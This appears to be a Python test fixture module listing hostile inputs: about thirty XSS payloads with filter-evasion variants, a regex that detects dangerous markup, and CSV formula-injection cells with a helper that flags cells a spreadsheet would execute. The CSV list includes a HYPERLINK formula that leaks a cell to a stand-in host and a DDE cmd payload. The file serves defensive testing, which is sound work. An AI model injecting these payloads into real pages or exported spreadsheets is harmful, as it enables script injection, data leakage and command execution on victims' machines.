"""Corpora of hostile input, shared by the tests that each feed them to one way in or out."""

import re
import unicodedata

# Script an attacker with an editor's account might write, in Markdown or plain text.
XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<body onload=alert(1)>",
    '<input autofocus onfocus="alert(1)">',
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<<script>script>alert(1)<</script>/script>",
    '<a href="x" onclick="alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    "`<script>alert(1)</script>`",
    "<template><script>alert(1)</script></template>",
    '<base href="javascript:alert(1)//">',
    "[x]( javascript:alert(1) )",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
]

DANGEROUS = re.compile(
    r"<\s*(script|iframe|object|embed|form|input|meta|style|base|svg|math|body|template|details)"
    r"|\son\w+\s*=|javascript:|vbscript:|data:text/html",
    re.IGNORECASE,
)


# Cells a spreadsheet would run as formulas, or split into cells that it would (OWASP's CSV
# injection guidance: leading = + - @ tab CR, after spaces, full-width signs, separators).
CSV_FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "   @SUM(1)",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff201",
    ";=1+1",
    ",=1+1",
    " ;=1+1",
    "a;=1+1",
    "a,=1+1",
    '=HYPERLINK("https://example.org/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "'=1+1",
    '"=1+1',
]


def runs_as_formula(cell):
    """Whether a spreadsheet would run `cell` (as read from the CSV) as a formula: its first
    character other than spaces and separators is a trigger, in its NFKC form."""
    if cell.startswith("'"):
        return False
    first = next((c for c in unicodedata.normalize("NFKC", cell) if c not in " ;,"), "")
    return first in {"=", "+", "-", "@", "\t", "\r"}
